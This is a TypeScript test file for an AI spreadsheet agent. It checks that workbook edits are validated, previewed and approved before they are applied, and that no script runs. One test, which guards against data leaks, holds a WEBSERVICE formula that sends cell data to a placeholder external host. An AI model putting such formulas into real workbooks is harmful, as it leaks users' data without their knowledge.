/**
 * The typed-operations branch with a scripted model and a scripted workbook port
 * (Excel cannot run here; the real operations against the fake Excel are tested in
 * tests/excel/). What matters: nothing is applied before the checks pass and the user
 * approves the preview, problems go back to the model, and no script ever runs.
 */
import { describe, expect, it } from 'vitest';
import type { RunResult } from '../../workers/api';
import { FakeModel } from '../models/test/fake-model';
import type { Plan } from './plan';
import { runRequest, type AgentEvent, type SandboxPort } from './run-request';
import type { ChangeDecision, PreparedChange, WorkbookPort } from './workbook-change';

const PLAN: Plan = {
  kind: 'plan',
  summary: 'Make the header row bold',
  steps: ['Bold Sales!A1:D1'],
  inputs: [],
  outputs: [],
  dropsRows: false,
  engine: 'workbook-ops',
  engineReason: 'only formatting changes',
  risk: 'low',
};
const GOOD = { summary: 'bold header', ops: [{ op: 'font', sheet: 'Sales', address: 'A1:D1', bold: true }] };
const BAD = { summary: 'bold header', ops: [{ op: 'font', sheet: 'Sails', address: 'A1:D1', bold: true }] };

function sandbox(): SandboxPort & { runs: number } {
  const port = {
    runs: 0,
    start: async () => ({ ok: true as const, info: { pythonVersion: '3.14', runtime: 'fake', packages: { openpyxl: '3.0.9' }, startMs: 0 } }),
    precheck: async () => ({ ok: true as const }),
    profile: async () => ({ ok: true as const, files: [], durationMs: 0 }),
    run: async (): Promise<RunResult> => {
      port.runs += 1;
      throw new Error('no script may run for a workbook change');
    },
  };
  return port;
}

/** A workbook with one sheet, "Sales"; operations on other sheets fail the check. */
function workbook(options: { risky?: string[]; applyFails?: boolean } = {}) {
  const applied: PreparedChange[] = [];
  const port: WorkbookPort = {
    describe: async () => 'sheet "Sales" used range A1:D20, header row 1: "Region", "Month", "Sales", "Notes"',
    opsJsonSchema: () => ({ type: 'object' }),
    prepare: async (json) => {
      const parsed = JSON.parse(json) as typeof GOOD;
      const wrong = parsed.ops.filter((o) => o.sheet !== 'Sales').map((o, i) => `Operation ${i + 1} (${o.op}): there is no sheet "${o.sheet}". Sheets: "Sales".`);
      if (wrong.length) return { ok: false, problems: wrong };
      return { ok: true, change: { summary: parsed.summary, steps: [{ description: 'Bold Sales!A1:D1', sheet: 'Sales', address: 'A1:D1' }], risky: options.risky ?? [], ops: parsed.ops } };
    },
    apply: async (change) => {
      if (options.applyFails) return { ok: false, message: 'Excel refused operation 1 (the sheet is protected). The workbook was put back as it was.' };
      applied.push(change);
      return { ok: true, undoId: 'undo-1', label: 'Bold Sales!A1:D1' };
    },
  };
  return { port, applied };
}

const approvePlan = async () => ({ action: 'approve' as const });
const noInputs = async () => [];

function run(model: FakeModel, wb: ReturnType<typeof workbook>, decision: ChangeDecision = { action: 'apply', approveRisky: false }, events: AgentEvent[] = []) {
  const box = sandbox();
  const outcome = runRequest('Make the header bold', {
    model,
    sandbox: box,
    readInputs: noInputs,
    approve: approvePlan,
    workbook: wb.port,
    approveChange: async () => decision,
    onEvent: (e) => events.push(e),
  });
  return { outcome, box };
}

describe('workbook changes as typed operations', () => {
  it('plans, checks, previews and applies, without running any script', async () => {
    const model = new FakeModel([{ json: PLAN }, { json: GOOD }]);
    const wb = workbook();
    const events: AgentEvent[] = [];
    const { outcome, box } = run(model, wb, undefined, events);
    expect(await outcome).toMatchObject({ status: 'applied', undoId: 'undo-1', label: 'Bold Sales!A1:D1' });
    expect(wb.applied).toHaveLength(1);
    expect(box.runs).toBe(0);
    const stages = events.flatMap((e) => (e.type === 'stage' ? [e.stage] : []));
    expect(stages).toEqual(['starting-python', 'profiling', 'planning', 'awaiting-approval', 'writing-changes', 'reviewing-changes', 'applying']);
    expect(events.some((e) => e.type === 'change-preview')).toBe(true);
    // The planner saw the open workbook; the operations request carried the schema.
    expect(model.calls[0]!.messages.map((m) => m.content).join('\n')).toContain('The open workbook:');
    expect(model.calls[1]!.jsonSchema?.name).toBe('workbook_operations');
  });

  it('sends failed checks back to the model and applies the corrected operations', async () => {
    const model = new FakeModel([{ json: PLAN }, { json: BAD }, { json: GOOD }]);
    const wb = workbook();
    const events: AgentEvent[] = [];
    expect((await run(model, wb, undefined, events).outcome).status).toBe('applied');
    const retry = model.calls[2]!.messages.at(-1)!.content;
    expect(retry).toContain('there is no sheet "Sails"');
    expect(retry).toContain('nothing was changed');
    expect(events.filter((e) => e.type === 'attempt-failed')).toHaveLength(1);
  });

  it('gives up after three invalid answers with a clear message, having changed nothing', async () => {
    const model = new FakeModel([{ json: PLAN }, { json: BAD }, { json: BAD }, { json: BAD }]);
    const wb = workbook();
    const outcome = await run(model, wb).outcome;
    expect(outcome.status).toBe('failed');
    if (outcome.status === 'failed') expect(outcome.message).toMatch(/3 tries, so nothing was changed/);
    expect(wb.applied).toHaveLength(0);
  });

  it('applies nothing when the user cancels at the preview', async () => {
    const wb = workbook();
    const outcome = await run(new FakeModel([{ json: PLAN }, { json: GOOD }]), wb, { action: 'cancel' }).outcome;
    expect(outcome.status).toBe('cancelled');
    expect(wb.applied).toHaveLength(0);
  });

  it('never applies formulas that reach the network unless the user approves them explicitly', async () => {
    const wb = workbook({ risky: ['Sales!E2: =WEBSERVICE("http://x.example/"&A2) fetches from the internet'] });
    const refused = await run(new FakeModel([{ json: PLAN }, { json: GOOD }]), wb, { action: 'apply', approveRisky: false }).outcome;
    expect(refused.status).toBe('failed');
    expect(wb.applied).toHaveLength(0);
    const approved = await run(new FakeModel([{ json: PLAN }, { json: GOOD }]), wb, { action: 'apply', approveRisky: true }).outcome;
    expect(approved.status).toBe('applied');
    expect(wb.applied).toHaveLength(1);
  });

  it('reports a failure while applying in the words of the workbook port', async () => {
    const outcome = await run(new FakeModel([{ json: PLAN }, { json: GOOD }]), workbook({ applyFails: true })).outcome;
    expect(outcome.status).toBe('failed');
    if (outcome.status === 'failed') expect(outcome.message).toMatch(/protected.*put back as it was/);
  });

  it('outside Excel a "workbook-ops" plan is refused and the model plans a script instead', async () => {
    const scriptPlan: Plan = { ...PLAN, engine: 'openpyxl', outputs: [{ file: 'out.xlsx', sheets: [{ name: 'Sales', columns: [], rows: 'any' }] }] };
    const model = new FakeModel([{ json: PLAN }, { json: scriptPlan }]);
    const outcome = await runRequest('Make the header bold', { model, sandbox: sandbox(), readInputs: noInputs, approve: async () => ({ action: 'cancel' as const }) });
    expect(outcome.status).toBe('cancelled');
    expect(model.calls[1]!.messages.at(-1)!.content).toContain('No workbook is open');
    expect(model.calls[0]!.messages[0]!.content).toContain('Never choose "workbook-ops"');
  });
});
